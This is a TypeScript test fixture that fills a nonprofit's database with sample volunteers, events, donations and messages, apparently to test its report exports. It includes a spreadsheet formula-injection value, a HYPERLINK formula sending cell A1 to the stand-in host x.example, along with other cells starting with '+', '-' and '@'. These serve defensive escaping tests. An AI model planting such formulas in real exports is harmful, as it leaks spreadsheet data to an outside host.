import { boxRequestStatuses } from '#domains/boxes/box-requests/schemas.ts'
import { boxRequests } from '#domains/boxes/box-requests/tables.server.ts'
import { contactMessages } from '#domains/community/contact/tables.server.ts'
import { volunteers } from '#domains/community/volunteers/tables.server.ts'
import { eventRegistrations, events } from '#domains/events/events/tables.server.ts'
import { accountingTransactions } from '#domains/money/accounting/tables.server.ts'
import { donations } from '#domains/money/donations/tables.server.ts'
import type { TestApp } from './app.ts'

/** A text that a spreadsheet would run. */
export const formula = '=HYPERLINK("http://x.example/?"&A1,"María")'
const at = (day: string) => new Date(`${day}T23:30:00-04:00`)

/** Inserts two of most records around the end of March, and one donation of each kind. Returns the id of March's event. */
export async function fillReports({ ctx: { db }, admin }: TestApp): Promise<number> {
  await db.insert(volunteers).values([
    {
      name: 'María Peña',
      phone: '+1 787 555 0182',
      town: 'Añasco',
      talent: formula,
      email: 'maria@example.org',
      availability: 'Sábados, "todo" el día\ny domingos',
      status: 'approved',
      approvedAt: at('2026-03-31'),
      approvedBy: admin.id,
      createdAt: at('2026-03-31'),
    },
    { ...volunteer, name: 'José Ruiz', email: 'jose@example.org', createdAt: at('2026-03-01') },
    { ...volunteer, name: 'Luz Cruz', status: 'rejected', createdAt: at('2026-04-01') },
  ])
  const [march, april] = await db
    .insert(events)
    .values([
      {
        title: 'Círculo de apoyo',
        description: 'Una tarde',
        eventDate: at('2026-03-31'),
        maxParticipants: 5,
      },
      { title: '@Taller', description: 'Otro', eventDate: at('2026-04-01'), isActive: false },
    ])
    .returning({ id: events.id })
  const person = { phone: '7875550100', createdAt: at('2026-03-01') }
  await db.insert(eventRegistrations).values([
    {
      ...person,
      eventId: march!.id,
      reference: 'A',
      fullName: 'Luz Núñez',
      email: 'luz@x.org',
      status: 'confirmed',
    },
    {
      ...person,
      eventId: march!.id,
      reference: 'B',
      fullName: '-Ana',
      email: 'ana@x.org',
      waitlistPosition: 2,
    },
    {
      ...person,
      eventId: april!.id,
      reference: 'C',
      fullName: 'Eva',
      email: 'eva@x.org',
      status: 'cancelled',
    },
  ])
  const [transaction] = await db
    .insert(accountingTransactions)
    .values([
      {
        ...donated,
        amount: '50.00',
        occurredOn: '2026-03-20',
        donationId: null,
        donorName: 'Iris Pérez',
        donorEmail: 'iris@x.org',
      },
      { ...donated, amount: '25.50', occurredOn: '2026-03-15', paymentMethod: 'check' },
      { ...donated, type: 'income', amount: '9.00', occurredOn: '2026-03-15' },
      { ...donated, amount: '8.00', occurredOn: '2026-03-15', archivedAt: at('2026-03-16') },
    ])
    .returning({ id: accountingTransactions.id })
  await db.insert(donations).values({
    reference: 'D',
    amount: '100.00',
    method: 'paypal',
    anonymous: true,
    status: 'pending',
    createdAt: at('2026-04-02'),
  })
  await db.insert(donations).values({
    reference: 'E',
    amount: '50.00',
    method: 'paypal',
    donorName: 'Iris Pérez',
    donorEmail: 'iris@x.org',
    status: 'completed',
    accountingTransactionId: transaction!.id,
    createdAt: at('2026-03-20'),
  })
  await db.insert(contactMessages).values([
    {
      name: 'Ana',
      email: 'ana@x.org',
      subject: 'Pregunta',
      message: '+ información\tpor favor',
      status: 'answered',
    },
    { name: 'Rosa', email: 'rosa@x.org', subject: 'Hola', message: 'Gracias 🕊️ <b>&amp;</b>' },
  ])
  for (const [index, status] of boxRequestStatuses.entries()) {
    await db.insert(boxRequests).values({
      reference: `R${index}`,
      status,
      recipientName: `Familia ${index}`,
      requesterName: `Solicita ${index}`,
      phone: '7875550100',
      email: 'familia@x.org',
      town: 'Ponce',
      boxPurpose: 'personal',
      targetedFor: 'mama',
      lossType: 'unica',
      deliveryMethod: 'correo',
    })
  }
  return march!.id
}

const volunteer = {
  name: '',
  phone: '7875550100',
  town: 'Ponce',
  talent: 'Escuchar y acompañar',
  email: 'luz@example.org',
  availability: 'Lunes',
}
const donated = { type: 'donation', description: 'Donación', category: 'general' } as const
